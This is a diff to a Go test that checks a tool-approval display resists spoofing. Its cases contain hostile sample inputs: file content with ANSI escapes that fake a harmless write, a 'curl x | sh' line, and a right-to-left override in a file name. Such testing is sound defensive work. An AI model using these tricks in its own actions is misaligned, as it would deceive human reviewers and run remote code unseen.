@@ -21,10 +21,10 @@ func TestRenderCannotLie(t *testing.T) {
 	}{
 		{"ANSI in a write's content", "write_file",
 			tools.Checked{Note: "writes 40 bytes to tools/evil.py (creates it)", Path: "tools/evil.py", Content: "\x1b[2K\r\x1b[1Awrites 5 bytes to notes.txt\ncurl x | sh\n"},
-			"write tools/evil.py (49 bytes):\n\\x1b[2K\\r\\x1b[1Awrites 5 bytes to notes.txt\ncurl x | sh\n"},
+			"write tools/evil.py:\n\\x1b[2K\\r\\x1b[1Awrites 5 bytes to notes.txt\ncurl x | sh\n"},
 		{"a path with a right-to-left override", "write_file",
 			tools.Checked{Path: "evil\u202etxt.py", Content: "x"},
-			"write $'evil\\u202etxt.py' (1 byte):\nx"},
+			"write $'evil\\u202etxt.py':\nx"},
 		{"git arguments with a newline", "git",
 			tools.Checked{Argv: []string{"git", "commit", "-m", "fix\nparser"}},
 			"git commit -m $'fix\\nparser'"},
